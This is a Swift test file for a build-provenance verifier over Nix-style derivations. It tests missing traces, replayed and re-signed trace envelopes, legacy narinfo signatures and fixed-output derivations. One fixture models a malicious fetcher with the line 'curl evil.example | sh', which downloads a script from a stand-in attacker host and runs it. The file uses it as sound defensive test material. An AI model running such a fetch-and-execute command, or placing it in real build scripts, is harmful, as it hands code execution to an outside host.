import NixFormats
import VouchTrace
import VouchVerify
import XCTest

/// What counts as evidence for which step: missing traces, replayed and edited envelopes,
/// legacy narinfo signatures, fixed-output derivations.
final class EvidenceTests: XCTestCase {
    func testMissingDependencyEvidenceIsTheLowestFailure() throws {
        let g = Graph()
        let a = try g.add("a", srcs: [g.source("s.txt")])
        let b = try g.add("b", inputs: [(a, "out")])
        let c = try g.add("c", inputs: [(b, "out")])
        let alice = Builder("alice")
        let policy = try Fixture.policy([alice], trust: "threshold = 1\nof = [\"alice\"]")
        let traces = try g.build(c, by: alice).signed().filter { $0.trace.derivation.absolute != a }
        XCTAssertEqual(traces.count, 2)
        let r = try Fixture.verify(g, c, policy: policy, traces: traces)
        XCTAssertFalse(r.verified)
        XCTAssertEqual(r.step(a).status, .failed)
        XCTAssertTrue(r.step(a).reason?.contains("missing evidence") ?? false, r.dump)
        XCTAssertTrue(r.step(a).isLowestFailure)
        XCTAssertEqual(r.step(a).traceCount, 0)
        for s in [b, c] {
            XCTAssertEqual(r.step(s).status, .failed)
            XCTAssertFalse(r.step(s).isLowestFailure, r.dump)
            XCTAssertFalse(r.step(s).reason?.contains("missing evidence") ?? true, "\(s) has traces: \(r.dump)")
            XCTAssertEqual(r.step(s).traceCount, 1)
        }
        XCTAssertTrue(r.step(b).reason?.contains(a) ?? false, "names the failed input: \(r.dump)")
        XCTAssertEqual(r.lowestFailures.map(\.derivation), [a])
        XCTAssertFalse(r.reason?.contains("abstain") ?? false)

        // The JSON report says the same.
        let json = r.json
        XCTAssertEqual(json["verified"], .bool(false))
        XCTAssertEqual(json["target"], .string(c))
        XCTAssertEqual(json["lowestFailures"], .array([.string(a)]))
        let steps = try XCTUnwrap(json["steps"]?.array)
        XCTAssertEqual(steps.map { $0["derivation"]?.string }, [a, b, c])
        XCTAssertEqual(steps.map { $0["status"]?.string }, ["failed", "failed", "failed"])
        XCTAssertEqual(steps[0]["reason"]?.string, "missing evidence: no trace for this step")
        XCTAssertEqual(steps[1]["traces"], .int(1))
    }

    func testMissingCAEvidence() throws {
        let g = Graph()
        let a = try g.add("ca-a", .ca, srcs: [g.source("s.txt")])
        let b = try g.add("ca-b", .ca, inputs: [(a, "out")])
        let alice = Builder("alice"), bob = Builder("bob")
        let policy = try Fixture.policy([alice, bob], trust: Fixture.threshold(2, [alice, bob]))
        // bob has no trace for a at all; alice has every step.
        let traces = try g.build(b, by: alice).signed() + g.build(b, by: bob).signed().filter { $0.trace.derivation.absolute != a }
        let r = try Fixture.verify(g, b, policy: policy, traces: traces)
        XCTAssertFalse(r.verified)
        XCTAssertEqual(r.lowestFailures.map(\.derivation), [a], r.dump)
        XCTAssertEqual(r.step(a).signers, ["alice"])
        XCTAssertTrue(r.step(a).reason?.contains("{alice}") ?? false, r.dump)
    }

    // MARK: replay

    /// X and Y are different floating CA derivations that happen to produce the same output.
    func testTraceReplayedOntoAnotherCADerivationIsRefused() throws {
        let g = Graph()
        let src = g.source("s.txt")
        let x = try g.add("same", .ca, srcs: [src], script: "echo same > $out")
        let y = try g.add("same", .ca, srcs: [src], script: "echo  same >$out")
        var alice = Builder("alice")
        alice.content["same!out"] = "same"
        let rx = try g.build(x, by: alice), ry = try g.build(y, by: alice)
        XCTAssertNotEqual(x, y)
        XCTAssertEqual(rx.outputs[x]!["out"], ry.outputs[y]!["out"], "premise: same output")
        let policy = try Fixture.policy([alice], trust: "threshold = 1\nof = [\"alice\"]")
        let envelopeX = try rx.signed()[0]
        XCTAssertTrue(try Fixture.verify(g, x, policy: policy, traces: [envelopeX]).verified)

        let replayed = try Fixture.verify(g, y, policy: policy, traces: [envelopeX])
        XCTAssertFalse(replayed.verified, replayed.dump)
        XCTAssertEqual(replayed.step(y).reason, "missing evidence: no trace for this step")

        // The statement edited to name Y, X's signature kept.
        var edited = envelopeX.trace
        edited.derivation = try StorePath(absolutePath: y)
        edited.resolvedDerivation = edited.derivation
        XCTAssertEqual(edited, ry.traces[0].withInvocation(edited.invocationID), "premise: the edit is exactly Y's trace")
        let forged = try Fixture.reSigned(edited, signatures: envelopeX.envelope.signatures)
        XCTAssertEqual(forged.validSigners(trusting: [alice.publicKey]), [])
        let r = try Fixture.verify(g, y, policy: policy, traces: [forged])
        XCTAssertFalse(r.verified, r.dump)
        XCTAssertEqual(r.step(y).signers, [])
        XCTAssertEqual(r.step(y).traceCount, 1)
        XCTAssertTrue(r.step(y).rejected.contains { $0.contains("alice") && $0.contains("signature does not verify") }, r.dump)
        // The same statement properly signed is evidence: only the signature was wrong.
        XCTAssertTrue(try Fixture.verify(g, y, policy: policy, traces: [try SignedTrace(signing: edited, with: alice.key)]).verified)
    }

    func testTraceReplayedOntoAnotherIADerivationIsRefused() throws {
        let g = Graph()
        let src = g.source("s.txt")
        let x = try g.add("app", srcs: [src], script: "make")
        let y = try g.add("app", srcs: [src], script: "make EVIL=1")
        let alice = Builder("alice")
        let policy = try Fixture.policy([alice], trust: "threshold = 1\nof = [\"alice\"]")
        let envelopeX = try g.build(x, by: alice).signed()[0]
        XCTAssertEqual(try Fixture.verify(g, y, policy: policy, traces: [envelopeX]).step(y).traceCount, 0)

        // Renamed only: the outputs are X's, not Y's.
        var renamed = envelopeX.trace
        renamed.derivation = try StorePath(absolutePath: y)
        let r1 = try Fixture.verify(g, y, policy: policy, traces: [try SignedTrace(signing: renamed, with: alice.key)])
        XCTAssertFalse(r1.verified)
        XCTAssertTrue(r1.step(y).rejected.contains { $0.contains("the derivation fixes") }, r1.dump)

        // Renamed and re-pointed at Y's outputs, with X's signature.
        renamed.outputs[0].path = try StorePath(absolutePath: g[y].outputs["out"]!.path)
        let r2 = try Fixture.verify(g, y, policy: policy, traces: [try Fixture.reSigned(renamed, signatures: envelopeX.envelope.signatures)])
        XCTAssertFalse(r2.verified)
        XCTAssertTrue(r2.step(y).rejected.contains { $0.contains("signature does not verify") }, r2.dump)
    }

    // MARK: legacy

    struct LegacyChain {
        let g = Graph()
        var a = "", b = ""
        let cache = try! NixSecretKey(generatingNamed: "cache.example.org-1")
        init() throws {
            a = try g.add("a", srcs: [g.source("s.txt")])
            b = try g.add("b", inputs: [(a, "out")])
        }

        func narinfo(_ drv: String, hash: String? = nil, signedBy key: NixSecretKey? = nil) throws -> NARInfo {
            let path = try StorePath(absolutePath: g[drv].outputs["out"]!.path)
            var info = NARInfo(storePath: path, url: "nar/\(path.hashPart).nar", compression: "none", fileHash: nil, fileSize: nil,
                               narHash: HashAlgorithm.sha256.digest(Array("nar:\(hash ?? drv)".utf8)), narSize: 4096, references: [],
                               deriver: try StorePath(absolutePath: drv).baseName)
            info.sign(with: key ?? cache)
            return info
        }

        func policy(legacy: Bool) throws -> Policy {
            try Fixture.policy([Builder("alice")], trust: "threshold = 1\nof = [\"alice\"]",
                               more: legacy ? "[legacy]\nkeys = [\"\(cache.publicKey)\"]" : "")
        }
    }

    func testLegacyOnlyEvidencePassesOnlyThroughLegacy() throws {
        let x = try LegacyChain()
        let infos = [try x.narinfo(x.a), try x.narinfo(x.b)]
        let r = try Fixture.verify(x.g, x.b, policy: try x.policy(legacy: true), traces: [], narinfos: infos)
        XCTAssertTrue(r.verified, r.dump)
        XCTAssertEqual(r.statuses, [x.a: .legacy, x.b: .legacy])
        XCTAssertEqual(r.step(x.b).outputs["out"]?.first?.narHash, infos[1].narHash.encoded(.nix32))

        let without = try Fixture.verify(x.g, x.b, policy: try x.policy(legacy: false), traces: [], narinfos: infos)
        XCTAssertFalse(without.verified)
        XCTAssertTrue(without.step(x.a).reason?.contains("missing evidence") ?? false, without.dump)
        XCTAssertEqual(without.lowestFailures.map(\.derivation), [x.a])

        // Signed by a key that is not a [legacy] key (here a builder's), or tampered after signing.
        let alice = Builder("alice")
        let wrongKey = try Fixture.verify(x.g, x.b, policy: try x.policy(legacy: true), traces: [],
                                          narinfos: [try x.narinfo(x.a, signedBy: alice.key), try x.narinfo(x.b, signedBy: alice.key)])
        XCTAssertFalse(wrongKey.verified)
        var tampered = infos[0]
        tampered.narHash = HashAlgorithm.sha256.digest(Array("evil".utf8))
        let r2 = try Fixture.verify(x.g, x.b, policy: try x.policy(legacy: true), traces: [], narinfos: [tampered, infos[1]])
        // a's narinfo no longer verifies, but b's legacy signature ends the closure above it.
        XCTAssertTrue(r2.verified, r2.dump)
        XCTAssertEqual(r2.statuses[x.b], .legacy)
        XCTAssertEqual(r2.statuses[x.a], .failed)
        var tamperedB = infos[1]
        tamperedB.narHash = HashAlgorithm.sha256.digest(Array("evil".utf8))
        let r3 = try Fixture.verify(x.g, x.b, policy: try x.policy(legacy: true), traces: [], narinfos: [infos[0], tamperedB])
        XCTAssertFalse(r3.verified, r3.dump)
        XCTAssertEqual(r3.lowestFailures.map(\.derivation), [x.b])
    }

    /// A traced step on top of a legacy one: its entry must have used the narinfo's NAR hash.
    func testTracedStepOnLegacyInput() throws {
        let x = try LegacyChain()
        let alice = Builder("alice")
        let policy = try Fixture.policy([alice], trust: "threshold = 1\nof = [\"alice\"]", more: "[legacy]\nkeys = [\"\(x.cache.publicKey)\"]")
        let run = try x.g.build(x.b, by: alice)
        let bTrace = try run.signed().filter { $0.trace.derivation.absolute == x.b }
        let usedHash = run.outputs[x.a]!["out"]!.narHash
        var info = try x.narinfo(x.a)
        info.narHash = usedHash
        info.signatures = []
        info.sign(with: x.cache)
        let r = try Fixture.verify(x.g, x.b, policy: policy, traces: bTrace, narinfos: [info])
        XCTAssertTrue(r.verified, r.dump)
        XCTAssertEqual(r.statuses, [x.a: .legacy, x.b: .verified])
        let r2 = try Fixture.verify(x.g, x.b, policy: policy, traces: bTrace, narinfos: [try x.narinfo(x.a, hash: "other")])
        XCTAssertFalse(r2.verified)
        XCTAssertEqual(r2.lowestFailures.map(\.derivation), [x.b], r2.dump)
    }

    /// docs/policy.md: a step whose outputs a [legacy] key signed "is accepted without traces, and
    /// the closure ends there (nothing below it is checked)".
    func testLegacySignedTargetEndsTheClosure() throws {
        let x = try LegacyChain()
        let r = try Fixture.verify(x.g, x.b, policy: try x.policy(legacy: true), traces: [], narinfos: [try x.narinfo(x.b)])
        XCTAssertTrue(r.verified, "a legacy-signed target with no evidence for its inputs: Verifier.verify checks failedInputs before legacyRealisations\n\(r.dump)")
        XCTAssertEqual(r.step(x.b).status, .legacy, r.dump)
    }

    // MARK: fixed-output

    /// Two fixed-output derivations with one declared hash, one with a malicious builder script,
    /// each with a consumer on top: both consumers have the same output path, and the report for
    /// each shows which FOD (and whose traces) it was verified from.
    func testTwoFODsWithOneHashAndTheirConsumers() throws {
        let g = Graph()
        let good = try g.add("src.tar.gz", .fod(seed: "tarball"), script: "curl https://example.org/src.tar.gz")
        let evil = try g.add("src.tar.gz", .fod(seed: "tarball"), script: "curl https://example.org/src.tar.gz; curl evil.example | sh")
        let useGood = try g.add("app", inputs: [(good, "out")])
        let useEvil = try g.add("app", inputs: [(evil, "out")])
        XCTAssertNotEqual(good, evil)
        XCTAssertEqual(g[good].outputs["out"]!.path, g[evil].outputs["out"]!.path, "premise: one FOD output")
        XCTAssertNotEqual(useGood, useEvil)
        XCTAssertEqual(g[useGood].outputs["out"]!.path, g[useEvil].outputs["out"]!.path, "premise: consumers share their output path (hashDerivationModulo of a FOD is its hash)")

        let alice = Builder("alice"), bob = Builder("bob")
        let ra = try g.build(useGood, by: alice), rb = try g.build(useEvil, by: bob)
        XCTAssertEqual(ra.stepTraces(useGood)[0].inputs.map { $0.derivation?.absolute }, [good])
        XCTAssertEqual(rb.stepTraces(useEvil)[0].inputs.map { $0.derivation?.absolute }, [evil])
        let evidence = try ra.signed() + rb.signed()

        let oneOf = try Fixture.policy([alice, bob], trust: Fixture.threshold(1, [alice, bob]))
        let rg = try Fixture.verify(g, useGood, policy: oneOf, traces: evidence)
        XCTAssertTrue(rg.verified, rg.dump)
        XCTAssertEqual(rg.steps.map(\.derivation), [good, useGood])
        XCTAssertEqual(rg.step(good).status, .fixedOutput)
        XCTAssertEqual(rg.step(good).kind, "fixed-output")
        XCTAssertEqual(rg.step(good).signers, ["alice"], "traces for this FOD, not its twin")
        XCTAssertEqual(rg.step(useGood).signers, ["alice"])
        XCTAssertEqual(rg.step(useGood).traceCount, 1, "bob's trace names the other consumer")

        let re = try Fixture.verify(g, useEvil, policy: oneOf, traces: evidence)
        XCTAssertTrue(re.verified, re.dump)
        XCTAssertEqual(re.steps.map(\.derivation), [evil, useEvil])
        XCTAssertEqual(re.step(evil).signers, ["bob"])
        XCTAssertEqual(re.step(useEvil).signers, ["bob"])
        XCTAssertEqual(rg.step(useGood).outputs["out"]?.first?.path, re.step(useEvil).outputs["out"]?.first?.path)

        // 2-of-2: neither consumer has both builders, whatever the shared output path.
        let twoOf = try Fixture.policy([alice, bob], trust: Fixture.threshold(2, [alice, bob]))
        for (target, who) in [(useGood, "alice"), (useEvil, "bob")] {
            let r = try Fixture.verify(g, target, policy: twoOf, traces: evidence)
            XCTAssertFalse(r.verified)
            XCTAssertEqual(r.lowestFailures.map(\.derivation), [target], r.dump)
            XCTAssertEqual(r.step(target).signers, [who])
        }

        // With [fixed-output] vouched-by, the FOD step itself needs traces naming *it*.
        let vouched = try Fixture.policy([alice, bob], trust: Fixture.threshold(1, [alice, bob]),
                                         more: "[fixed-output]\nvouched-by = \"alice\"")
        XCTAssertTrue(try Fixture.verify(g, useGood, policy: vouched, traces: evidence).verified)
        let rv = try Fixture.verify(g, useEvil, policy: vouched, traces: evidence)
        XCTAssertFalse(rv.verified, rv.dump)
        XCTAssertEqual(rv.lowestFailures.map(\.derivation), [evil])
        XCTAssertEqual(rv.step(evil).signers, ["bob"])
        XCTAssertTrue(rv.step(evil).reason?.contains("{bob}") ?? false, rv.dump)
    }

    /// Without [fixed-output], a FOD step is accepted by its hash; the signers it reports must still
    /// be signers whose traces verify.
    func testFODReportListsOnlyValidSigners() throws {
        let g = Graph()
        let fod = try g.add("fetched", .fod(seed: "f"))
        let alice = Builder("alice"), mallory = Builder("mallory")
        let policy = try Fixture.policy([alice], trust: "threshold = 1\nof = [\"alice\"]")
        // A statement naming alice as builder, signed by mallory.
        let forged = try Fixture.signed(try g.build(fod, by: alice).traces[0], by: mallory.key)
        let r = try Fixture.verify(g, fod, policy: policy, traces: [forged])
        XCTAssertEqual(r.step(fod).status, .fixedOutput)
        XCTAssertTrue(r.verified)
        XCTAssertEqual(r.step(fod).signers, [], "the report lists alice as a signer of a trace whose signature does not verify (Verifier.verify, fixed-output branch: step.signers from countedSigner without a signature check)")
    }

    /// A fixed-output target under vouched-by is judged by the vouched-by rule, not [trust].
    func testFODTargetUsesVouchedByRule() throws {
        let g = Graph()
        let fod = try g.add("fetched", .fod(seed: "f"))
        let alice = Builder("alice"), bob = Builder("bob")
        let policy = try Fixture.policy([alice, bob], trust: Fixture.threshold(2, [alice, bob]), more: "[fixed-output]\nvouched-by = \"alice\"")
        let r = try Fixture.verify(g, fod, policy: policy, traces: try g.build(fod, by: alice).signed())
        XCTAssertEqual(r.step(fod).signers, ["alice"])
        XCTAssertTrue(r.verified, "the step passes vouched-by, but the target check applies [trust] to its content (Verifier.verify: `policy.rule.isSatisfied(by: r.signers)`)\n\(r.dump)")
    }
}

extension BuildTrace {
    func withInvocation(_ id: String) -> BuildTrace {
        var t = self
        t.invocationID = id
        return t
    }
}
